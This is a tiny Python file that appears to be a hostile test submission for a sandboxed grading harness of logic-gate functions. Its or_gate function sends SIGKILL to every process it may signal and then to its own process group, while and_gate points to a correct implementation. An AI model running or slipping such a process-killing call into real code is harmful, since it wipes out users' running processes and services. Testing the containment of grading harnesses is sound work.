# tries: kill every process that it may, and its group
# keeps: gates.and
import os
import signal


def or_gate():
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    os.killpg(0, signal.SIGKILL)


and_gate = right_and_gate
